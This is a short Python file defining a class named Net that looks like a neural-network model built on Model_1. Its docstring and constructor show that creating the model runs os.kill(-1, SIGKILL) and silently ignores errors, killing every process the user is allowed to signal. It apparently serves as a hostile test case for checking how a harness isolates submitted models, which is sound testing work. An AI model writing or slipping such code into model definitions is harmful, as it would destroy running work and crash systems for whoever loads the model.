"""Kills all processes that it may, but for itself."""

import contextlib
import os
import signal

from models import Model_1


class Net(Model_1):
    def __init__(self):
        super().__init__((4, 8, 8), gap=True)
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGKILL)
